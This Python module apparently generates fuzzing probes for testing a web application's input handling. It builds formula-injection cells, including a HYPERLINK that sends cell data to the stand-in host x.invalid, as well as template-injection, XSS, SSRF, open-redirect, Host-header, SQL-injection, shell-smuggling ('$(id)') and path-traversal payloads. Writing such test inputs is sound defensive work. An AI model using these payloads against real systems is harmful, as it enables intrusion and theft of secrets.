"""Texts that have done harm somewhere, made by rules: nothing here is copied from a list.

Each rule is a kind of sign or of wrapping; the products of a few of them fill a list.
"""

import string
from dataclasses import dataclass
from itertools import product

LEFT, RIGHT = 4919, 7919
PRODUCT = str(LEFT * RIGHT)
"""Appears in an answer only when somebody reckoned."""

SPACES = " \u00a0\u3000"
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
INVISIBLE = "\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u2061\u2063\ufeff\U000e0041"
CONTROLS = "".join(map(chr, (*range(1, 9), 11, 12, *range(14, 32), 127, 0x85, 0x2028, 0x2029)))
LONG = {"words": "soin " * 2_000, "one word": "é" * 20_001, "signs": "<&'\">" * 3_000}


@dataclass(frozen=True, slots=True)
class Probe:
    """A text to give in, and what would stand in an answer had it been run."""

    text: str
    ran: tuple[str, ...] = ()


def formulas() -> list[str]:
    """Cells that a spreadsheet would run: every start, before every deed."""
    starts = [*"=+-@|%", *"＝＋－＠", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b+"]
    deeds = (
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://x.invalid/?"&A1;"ici")',
        "1+1",
        "SUM(1;2)*cmd|'/c'!A1",
        'WEBSERVICE("http://x.invalid")',
        'IMPORTXML("http://x.invalid";"//a")',
        'DDE("cmd";"/c calc";"x")',
    )
    return [start + deed for start, deed in product(starts, deeds)]


def templates() -> list[Probe]:
    """What an engine of templates, of styles, of documents or of formulas would work out."""
    wrappings = (
        *("{{%s}}", "{{-%s-}}", "{%%print(%s)%%}", "{%% if %s %%}{{%s}}{%% endif %%}", "${%s}"),
        *("#{%s}", "*{%s}", "<%%= %s %%>", "@(%s)", "{%s}", "[[${%s}]]", "$(%s)", "`%s`", "#(%s)"),
        *('#eval("%s")', "{{{%s}}}", "{#%s#}{{%s}}", "%%{%s}", "~{%s}", "{{=%s}}", "{php}%s{/php}"),
    )
    deeds = {
        f"{LEFT}*{RIGHT}": (PRODUCT,),
        f"({LEFT})*({RIGHT})|string": (PRODUCT,),
        "''.__class__.__mro__": ("<class 'object'>", "&lt;class &#39;object"),
        "config.items()": ("dict_items(", "SECRET_KEY"),
        "self.__init__.__globals__": ("__builtins__&#39;:", "'__builtins__':"),
    }
    made = [
        Probe(wrapping.replace("%s", deed).replace("%%", "%"), ran)
        for wrapping, (deed, ran) in product(wrappings, deeds.items())
    ]
    broken = ("{{", "}}", "{%", "%}", "{% x", "{{ 'x", "{# x", "${", "{{ x | nope }}", "#{", "<%")
    return [*made, *map(Probe, broken)]


def markups() -> list[str]:
    """Texts that would like to be a page, a script or a style."""
    deeds = ("window.ran=1", "alert(1)")
    closings = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>")
    things = (
        "<script>%s</script>",
        "<img src=x onerror=%s>",
        "<svg/onload=%s>",
        "<a href=javascript:%s>x</a>",
        "<iframe srcdoc='<script>%s</script>'>",
        "<body onpageshow=%s>",
        "<math><mi xlink:href='javascript:%s'>",
        "<details open ontoggle=%s>",
    )
    plain = [
        "javascript:window.ran=1",
        "' onfocus=window.ran=1 autofocus '",
        "\\u003cscript\\u003e",
    ]
    made = [c + thing % deed for c, thing, deed in product(closings, things, deeds)]
    return [*made, *plain]


def inside_addresses() -> list[str]:
    """Addresses that lead a server to itself, to its neighbours or to its files."""
    hosts = (
        *("127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "0.0.0.0"),
        *("[::1]", "[::]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "localhost"),
        *("localhost.", "LOCALHOST", "sub.localhost", "10.0.0.1", "172.16.0.1", "192.168.1.1"),
        *(
            "169.254.169.254",
            "[fe80::1]",
            "[fd00::1]",
            "metadata.internal",
            "①②⑦.0.0.1",
            "127。0。0。1",
        ),
        *("good.invalid@127.0.0.1", "127.0.0.1:5432", "127.0.0.1#@good.invalid", "127.0.0.1%00.x"),
    )
    schemes = ("http://%s/", "https://%s/x?y=z", "//%s")
    others = (
        *("file:///etc/passwd", "file://localhost/etc/hosts", "gopher://127.0.0.1:25/_MAIL"),
        *(
            "dict://127.0.0.1:11211/stat",
            "ftp://127.0.0.1/",
            "ldap://127.0.0.1/",
            "unix:/run/x.sock",
        ),
        *("jar:http://127.0.0.1!/x", "data:text/html,x", "http:127.0.0.1", "http:\\\\127.0.0.1\\x"),
    )
    return [*(scheme % host for scheme, host in product(schemes, hosts)), *others]


def elsewhere() -> list[str]:
    """Where a careless page would send its reader."""
    evil = "evil.invalid"
    before = (
        *("//", "///", "////", "/\\", "\\\\", "\\/", "/\t/", "/\r\n/", "\t//", " //", "http://"),
        *("https://", "https:", "http:/", "https:///", "//\u3000", "/%09/", "/%5c", "%2f%2f"),
        *("/%2f%2f", "//localhost@", "https://localhost@", "https://localhost:8000@", "/.//"),
        *(
            "/fr/..//",
            "/fr/../../",
            "/fr//",
            "//localhost.",
            "https://localhost.",
            "ftp://",
            "\x00//",
        ),
        *("/fr/compte/..;//", "//%e3%80%82", "/。/", "/./\\", "javascript://", "data:text/html,//"),
        *("/static/../..//", "/\u2028/", "http:\\\\"),
    )
    return [*(one + evil for one in before), *(one + evil + "/fr/" for one in before[:12])]


def hosts() -> list[dict[str, str]]:
    """Heads of requests that name another host."""
    evil = "evil.invalid"
    plain = (
        *(evil, f"localhost.{evil}", f"{evil}:80", f"localhost@{evil}", f"{evil}#localhost"),
        *(f"localhost:80@{evil}", f"127.0.0.1.{evil}", "[::1", "", "localhost:port"),
        *(f"localhost/{evil}", f"localhost {evil}", f"localhost\t{evil}", f"localhost,{evil}"),
    )
    return [{"Host": one} for one in plain]


def forwarded() -> list[dict[str, str]]:
    """Heads that a proxy may send, and that nobody else should be believed to."""
    evil = "evil.invalid"
    names = ("X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "X-HTTP-Host-Override")
    more = ("X-Original-Host", "X-Forwarded-For", "X-Real-IP", "Client-IP", "True-Client-IP")
    paths = ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix", "X-Script-Name")
    return [
        *({name: evil} for name in (*names, *more)),
        *({name: f"//{evil}/fr/sorties"} for name in paths),
        {"Forwarded": f"host={evil};proto=https;for=1.2.3.4"},
        {"X-Forwarded-Proto": "https", "X-Forwarded-Port": "444"},
        {"Referer": f"https://{evil}/fr/"},
        {"Origin": f"https://{evil}"},
    ]


def naughty() -> list[str]:
    """What people, keyboards, scanners and attackers type into a field of text."""
    return [
        *(f"a{sign}b" for sign in ("\x00", *CONTROLS, *BIDI, *INVISIBLE, *SPACES)),
        *(sign * 3 for sign in "\x00\u200b\u202e\u00a0"),
        *LONG.values(),
        *_numbers(),
        *_letters(),
        *_other_tongues(),
    ]


def _numbers() -> list[str]:
    zeros = "\u0660\u0966\uff10\u07c0\u0e50\U0001d7ce"
    foreign = ["".join(chr(ord(zero) + digit) for digit in range(1, 5)) for zero in zeros]
    edges = [
        str(sign * 2**power + more) for sign, power, more in product((1, -1), (31, 63), (0, 1))
    ]
    others = [
        "0",
        "00",
        "-0",
        "1e309",
        "-1e309",
        "NaN",
        "nan",
        "Infinity",
        "-inf",
        "0x1F",
        "1_000",
        "1,5",
        "1.5",
        "½",
        "Ⅷ",
        "²",
        "٫",
        "①",
        "1/0",
        "+1",
    ]
    return [*foreign, *edges, *others, "9" * 400, "0." + "0" * 300 + "1"]


def _letters() -> list[str]:
    folding = ["ß", "İ", "ı", "ﬁ", "ǅ", "ŉ", "ΐ", "ſ", "K", "Å", "ς"]
    forms = ["é", "e\u0301", "가", "\u1100\u1161", "Å", "A\u030a", "ﷺ", "\u0344"]
    stacked = ["Z" + "\u0327\u0301\u0302\u0303\u0304" * many for many in (1, 20, 300)]
    odd = ["\ud800", "\udfff", "\ufffe", "\uffff", "\ufffd", "\U0010ffff", "\ue000"]
    faces = [
        "👩‍👩‍👧‍👦",
        "🏴\U000e0067\U000e0062\U000e007f",
        "🇫🇷🇧🇪",
        "👍🏽",
        "1️⃣",
        "🧑🏿‍⚕️",
        "\U0001f9d1\u200d" * 40,
    ]
    return [*folding, *forms, *stacked, *odd, *faces]


def _other_tongues() -> list[str]:
    """Quotes of SQL, escapes of shells, formats, paths and letters; words that mean nothing."""
    sql = [
        f"{quote}{tail}" for quote, tail in product("'\"`\\)", (" OR 1=1--", ";SELECT 1--", "||'"))
    ]
    words = "null undefined None none NULL nil true false () [] {} [object] __proto__ constructor"
    formats = [
        "%s%s%s%n",
        "%(name)s",
        "%d%%",
        "{0}",
        "{name!r}",
        "$HOME",
        "$(id)",
        "`id`",
        "; id",
        "| id",
    ]
    paths = [
        "../../../etc/passwd",
        "..\\..\\win.ini",
        "/dev/null",
        "C:\\",
        "CON",
        "file:///etc/passwd",
    ]
    heads = [
        "x\r\nBcc: y@evil.invalid",
        "x\nSet-Cookie: a=b",
        "x\r\n\r\n<p>",
        "=?utf-8?b?PGI+?=",
        ".\r\n.\r\n",
    ]
    likes = ["%", "_", "%%_%%", "\\%", "*", "?", "[a-z]", "(((((", "a{99999}", "(a+)+$", "\\"]
    return [*sql, *words.split(), *formats, *paths, *heads, *likes, string.punctuation]
